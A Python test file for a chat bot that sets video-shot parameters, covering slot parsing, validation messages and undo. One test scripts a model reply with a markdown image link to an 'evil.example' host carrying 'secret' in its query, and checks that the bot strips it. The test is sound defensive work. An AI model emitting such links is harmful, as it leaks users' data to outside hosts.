"""One slot set exactly, by its name; and words of a model that would carry something out by a link."""

from pathlib import Path

import pytest

from bot.console.render import plain
from bot.messages import Invocation
from studio.text import without_links
from tests.bot.test_rights import IDEA, ask
from tests.doubles.scripted import in_turn, scripted_desk


@pytest.mark.parametrize(
    "said, shown",
    [
        ("shot_type close-up", "shot type: "),
        ("lens long", "lens: long"),
        ("duration 7.5 s", "duration: "),
        ("duration 7,5", "7.5 s"),
        ("camera_movement tilt up, pan left", "tilt up, then pan left"),
        ("color_palette teal, #ff8800", "teal"),
        ("negative text, people", "text, people"),
        ("dialogue Mara: “Again?”", "Mara: “Again?”"),
        ("aspect_ratio 4:5", "4:5"),
        ("shot_type -", "- shot type"),
        ("duration soon", "is a number"),
        ("lenz long", "did you mean lens"),
        ("duration -4", "Not done: Duration must be greater than 0."),
        ("motion_strength 3", "Not done: Motion strength must be 1 or less."),
        ("time_of_day day-moon", "Time of day takes no “day-moon”: say dawn, sunrise, "),
        ("shot_type clos", "Shot type takes no “clos”: did you mean close-up?"),
        ("time_of_day at night", "time of day: night"),
        ("time_of_day la nuit", "time of day: night"),
        ("shot_type closeup", "shot type: "),
        ("camera_movement push in, wobble", "Camera movement takes no “wobble”"),
        ("camera_movement tilt up, then pan left", "tilt up, then pan left"),
        ("lighting_mood like a fever", "lighting mood: like a fever"),
        ("references cat.jpg", "/ref"),
    ],
)
async def test_a_slot_is_set_as_typed(said: str, shown: str, tmp_path: Path) -> None:
    async with scripted_desk(tmp_path, None) as (desk, _store, _):
        await ask(desk, IDEA)
        assert shown in plain((await ask(desk, f"/set 2 {said}")).reply)


async def test_a_form_sets_several_slots_in_one_step(tmp_path: Path) -> None:
    async with scripted_desk(tmp_path, None) as (desk, _store, _):
        await ask(desk, IDEA)
        form = Invocation(verb="set", arguments={"scene": "1", "lens": "long", "duration": "9", "action": ""})
        changed = plain((await ask(desk, command=form)).reply)
        assert "lens: long" in changed and "9 s" in changed and "- action" in changed
        assert "Taken back" in plain((await ask(desk, "/undo")).reply)
        assert "9 s" not in plain((await ask(desk, "/scene 1")).reply)


async def test_a_model_carries_nothing_out_by_a_link(tmp_path: Path) -> None:
    leak = "Look: ![x](https://evil.example/?q=secret) or www.evil.example/secret, and https://mine.example/ref as you said."
    async with scripted_desk(tmp_path, in_turn([("propose", {"words": leak})])) as (desk, _store, _):
        reply = plain((await ask(desk, "what do you make of https://mine.example/ref then?")).reply)
        assert "evil" not in reply and "https://mine.example/ref" in reply and "link left out" in reply


@pytest.mark.parametrize("text", ["a 4:5 ratio, 24fps", "Mara says: wait", "see scene 2 (locked)", "f/2.8 and 1/50 s", "and/or"])
def test_plain_words_are_no_links(text: str) -> None:
    assert without_links(text, "") == text
